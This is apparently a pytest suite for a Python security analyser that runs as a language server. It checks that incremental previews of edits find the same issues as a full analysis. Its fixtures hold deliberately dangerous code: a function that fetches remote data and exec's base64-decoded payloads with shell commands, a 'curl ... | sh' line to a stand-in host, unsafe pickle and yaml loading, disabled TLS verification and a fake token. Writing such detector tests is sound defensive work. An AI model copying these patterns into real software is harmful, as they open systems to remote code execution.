"""Edits are analysed before the module is parsed again (`DocumentState.preview`): only the
edited top-level statements are parsed, with the rest of the module standing in from the
edited old tree. The preview must find exactly what the full analysis then finds."""

from __future__ import annotations

import random
import sysconfig
from pathlib import Path

import pytest
from gifthorse.analyzers import Encoding, Settings
from gifthorse.server.documents import new_document
from gifthorse.server.incremental import editor_rules
from gifthorse.server.state import PREVIEW_MAX_EDIT, DocumentState
from lsprotocol import types

BLOCK = """\
def sync_settings(url):
    payload = requests.get(url).json()
    exec(base64.b64decode(payload["hook"]))
    subprocess.run(payload["command"], shell=True)
    return eval(payload["limits"])


"""

HEAD = "import base64\nimport subprocess\n\nimport requests\n\n\n"


def _large_module(count: int = 4000) -> str:
    body = "".join(f"def helper_{i}(value):\n    return value + {i}\n\n\n" for i in range(count))
    return HEAD + body


def _state(text: str, uri: str = "file:///big.py") -> DocumentState:
    state = DocumentState(new_document(uri, "python", 1, text), Settings(), editor_rules())
    state.freshness.set_baseline([])
    state.analyse_all()
    return state


def _edit(state: DocumentState, line: int, column: int, end: int, text: str) -> None:
    change = types.TextDocumentContentChangePartial(
        range=types.Range(
            start=types.Position(line=line, character=column),
            end=types.Position(line=line, character=end),
        ),
        text=text,
    )
    state.apply([change], Encoding.UTF16)


def _insert(state: DocumentState, line: int, column: int, text: str) -> None:
    _edit(state, line, column, column, text)


def _shown(state: DocumentState) -> list[tuple[object, ...]]:
    """Everything a client sees of each finding: id, place, message, fix, related."""
    return sorted(
        (
            entry.ident,
            entry.finding.code,
            entry.finding.start,
            entry.finding.end,
            entry.finding.message,
            entry.finding.fix,
            entry.finding.related,
        )
        for entry in state.shown()
    )


def _full(state: DocumentState) -> list[tuple[object, ...]]:
    state.sync()
    state.analyse_some(None)
    return _shown(state)


def test_an_inserted_block_is_flagged_before_the_module_is_parsed_again() -> None:
    state = _state(_large_module())
    line = 6 + 4 * 2000  # between two helpers
    _insert(state, line, 0, BLOCK)
    assert state.document.needs_parse
    assert state.preview()
    assert state.document.needs_parse  # the preview did not parse the module
    preview = _shown(state)
    assert {code for _, code, *_ in preview} == {"GH100", "GH150", "GH200", "GH202"}
    block_start = state.document.source.index(b"def sync_settings")
    assert all(block_start <= start < block_start + len(BLOCK) for _, _, start, *_ in preview)
    # lines are numbered as in the document ("fetched ... on line 8008")
    messages = " ".join(entry.finding.message for entry in state.shown())
    assert f"on line {line + 2}" in messages
    # fixes that add an import put it after the module's own imports, not into the block
    imports = [
        edit
        for entry in state.shown()
        if entry.finding.fix is not None
        for edit in entry.finding.fix.edits
        if "import" in edit.text
    ]
    assert imports
    assert all(edit.start == len(HEAD.rstrip("\n")) for edit in imports)
    # the full analysis finds the same (same ids, places, fixes) and replaces the preview
    assert _full(state) == preview


def test_typing_in_a_method_is_previewed_keystroke_by_keystroke() -> None:
    methods = "".join(
        f"    def method_{i}(self, value):\n        total = value * {i}\n        return total\n\n"
        for i in range(300)
    )
    text = HEAD + "class Handler:\n" + methods + _large_module(1500)[len(HEAD) :]
    state = _state(text)
    line = text[: text.index("total = value * 150")].count("\n")
    _insert(state, line, len("        total = value * 150"), "\n        ")
    typed = "eval(value)"
    for column, char in enumerate(typed, start=8):
        _insert(state, line + 1, column, char)
        assert state.preview()
        assert state.document.needs_parse
    preview = _shown(state)
    assert [code for _, code, *_ in preview] == ["GH100"]
    assert _full(state) == preview


def test_a_helper_edited_earlier_counts_in_a_later_preview() -> None:
    """A statement edited since the last parse is parsed again with each preview: its node
    in the old tree is out of date, and other statements read facts from it."""
    text = "import subprocess\n\n\ndef run(command):\n    return command\n\n\n" + (
        "def last_author(filename):\n    return filename\n\n\n"
    )
    text += _large_module(1000)[len(HEAD) :]
    state = _state(text)
    # the helper becomes a shell wrapper...
    _edit(state, 4, 11, 18, "subprocess.check_output(command, shell=True)")
    assert state.preview()
    # ...and, before any parse, a parameter is pasted into a command passed to it
    _edit(state, 8, 11, 19, 'run("git log -1 -- " + filename)')
    assert state.preview()
    preview = _shown(state)
    assert "GH102" in {code for _, code, *_ in preview}
    assert _full(state) == preview


def test_quiet_code_stays_quiet_and_ids_survive_the_full_analysis() -> None:
    state = _state(_large_module(2000))
    _insert(state, 7, len("    return value + 0"), "\n    value = eval(value)")
    assert state.preview()
    first = _shown(state)
    _insert(state, 8, len("    value = eval(value)"), "  # why")
    assert state.preview()
    assert [item[0] for item in _shown(state)] == [item[0] for item in first]
    assert _full(state) == _shown(state)
    _edit(state, 8, 0, len("    value = eval(value)  # why"), "    value = int(value)")
    assert state.preview()
    assert _shown(state) == []
    assert _full(state) == []


def test_no_preview_without_a_pending_edit_or_for_a_huge_paste() -> None:
    state = _state(_large_module(200))
    assert not state.preview()
    _insert(state, 6, 0, "x = 1\n" * (PREVIEW_MAX_EDIT // 6 + 1))
    assert not state.preview()


def _body_lines(lines: list[str]) -> list[int]:
    """Lines of function bodies after which a statement at the same indentation is valid."""
    out = []
    for i, line in enumerate(lines[:-1]):
        indent = line[: len(line) - len(line.lstrip())]
        following = lines[i + 1]
        if (
            len(indent) >= 4
            and line.strip()
            and not line.rstrip().endswith((":", ",", "(", "[", "{", "\\"))
            and not line.strip().startswith(("#", '"', "'", ")", "]", "}", "@"))
            and following.startswith(indent)
            and not following[len(indent) :].startswith((" ", "\t"))
        ):
            out.append(i)
    return out


RISKY_LINES = [
    "result = eval(payload)",
    "subprocess.run(cmd, shell=True)",
    "os.system('curl http://x.example/a.sh | sh')",
    "data = pickle.loads(self.request.body)",
    "requests.get(url, verify=False)",
    "exec(base64.b64decode(blob))",
    "yaml.load(open(path))",
    "digest = hashlib.md5(password.encode()).hexdigest()",
]


@pytest.mark.parametrize("seed", [1, 2])
def test_previews_of_typing_in_real_code_equal_the_full_analysis(seed: int) -> None:
    """Risky lines typed one character at a time into functions of standard library
    modules: after the last keystroke, the preview shows what the full analysis shows."""
    root = Path(sysconfig.get_paths()["stdlib"])
    rng = random.Random(seed)
    files = rng.sample(sorted(p for p in root.glob("*.py") if p.stat().st_size > 20_000), 6)
    compared = 0
    for path in files:
        text = path.read_text(encoding="utf-8", errors="replace")
        state = _state(text, path.as_uri())
        lines = text.split("\n")
        for line in rng.sample(_body_lines(lines), min(3, len(_body_lines(lines)))):
            indent = lines[line][: len(lines[line]) - len(lines[line].lstrip())]
            _insert(state, line, len(lines[line]), "\n" + indent)
            risky = rng.choice(RISKY_LINES)
            for column, char in enumerate(risky, start=len(indent)):
                _insert(state, line + 1, column, char)
                assert state.preview(), (path.name, line)
            preview = _shown(state)
            assert _full(state) == preview, (path.name, line, risky)
            compared += 1
            _edit(state, line, len(lines[line]), len(lines[line]), "")  # a no-op keeps lines
            end = len(indent) + len(risky)
            change = types.TextDocumentContentChangePartial(
                range=types.Range(
                    start=types.Position(line=line, character=len(lines[line])),
                    end=types.Position(line=line + 1, character=end),
                ),
                text="",
            )
            state.apply([change], Encoding.UTF16)
            _full(state)
    assert compared >= 12


def test_typing_in_one_method_keeps_the_findings_of_the_others() -> None:
    """Only the edited member of a class is parsed for the preview (with the class header):
    the findings of its other members, code and text alike, stay as they were."""
    members = "".join(
        f"    def method_{i}(self, value):\n        return value * {i}\n\n" for i in range(400)
    )
    risky = (
        "    def load(self, text):\n"
        "        token = 'ghp_4f9bQ2xLr8ZtK1mN7pW3vY6cA0dE5gH8jJ2k'\n"
        "        return eval(text)\n\n"
    )
    text = HEAD + "class Service:\n" + risky + members
    state = _state(text)
    state.freshness.set_baseline([(0, len(state.document.source))])  # all of it is fresh
    before = _full(state)
    assert {code for _, code, *_ in before} == {"GH100", "GH702"}
    line = text[: text.index("return value * 300")].count("\n")
    _insert(state, line, len("        return value * 300"), "\n        x = 1")
    assert state.preview()
    assert _shown(state) == before
    assert _full(state) == before


def test_an_edit_undone_is_not_parsed_again_by_later_previews() -> None:
    """A function whose text is back to what was parsed keeps its node from the old tree;
    the previews of later edits elsewhere still equal the full analysis."""
    state = _state(_large_module(2000))
    document = state.document
    line_a, line_b = 7 + 4 * 100, 7 + 4 * 900  # the bodies of helper_100 and helper_900
    end_a = len("    return value + 100")
    _insert(state, line_a, end_a, "\n    x = eval(value)")
    assert state.preview()
    change = types.TextDocumentContentChangePartial(
        range=types.Range(
            start=types.Position(line=line_a, character=end_a),
            end=types.Position(line=line_a + 1, character=len("    x = eval(value)")),
        ),
        text="",
    )
    state.apply([change], Encoding.UTF16)  # undone
    assert state.preview()
    start = document.source.index(b"def helper_100(")
    end = document.source.index(b"def helper_101(") - 2
    assert document.unchanged(start, end)
    _insert(state, line_b, len("    return value + 900"), "\n    y = eval(value)")
    start_b = document.source.index(b"def helper_900(")
    assert not document.unchanged(start_b, document.source.index(b"def helper_901(") - 2)
    assert state.preview()
    preview = _shown(state)
    assert [code for _, code, *_ in preview] == ["GH100"]
    assert _full(state) == preview


def test_a_method_edit_undone_is_not_parsed_with_the_next_edit_in_its_class() -> None:
    """Inside a class the check is per member: a method whose text is back to what was
    parsed is not parsed again when a later edit lands in another method of the class."""
    members = "".join(
        f"    def method_{i}(self, value):\n        return value * {i}\n\n" for i in range(300)
    )
    text = HEAD + "class Service:\n" + members
    state = _state(text)
    document = state.document
    line_a = text[: text.index("return value * 10\n")].count("\n")
    line_b = text[: text.index("return value * 200\n")].count("\n")
    end_a = len("        return value * 10")
    _insert(state, line_a, end_a, "\n        x = eval(value)")
    assert state.preview()
    state.apply(
        [
            types.TextDocumentContentChangePartial(
                range=types.Range(
                    start=types.Position(line=line_a, character=end_a),
                    end=types.Position(line=line_a + 1, character=len("        x = eval(value)")),
                ),
                text="",
            )
        ],
        Encoding.UTF16,
    )
    assert state.preview()
    parsed: list[list[tuple[int, int]]] = []
    parse_part = document.parse_part

    def recording(ranges: list[tuple[int, int]]) -> object:
        parsed.append(ranges)
        return parse_part(ranges)

    document.parse_part = recording  # type: ignore[method-assign]
    _insert(state, line_b, len("        return value * 200"), "\n        y = eval(value)")
    assert state.preview()
    method_a = document.source.index(b"    def method_10(")
    method_b = document.source.index(b"    def method_200(")
    (ranges,) = parsed
    assert any(a <= method_b < b for a, b in ranges)
    assert not any(a <= method_a < b for a, b in ranges)
    preview = _shown(state)
    assert [code for _, code, *_ in preview] == ["GH100"]
    assert _full(state) == preview
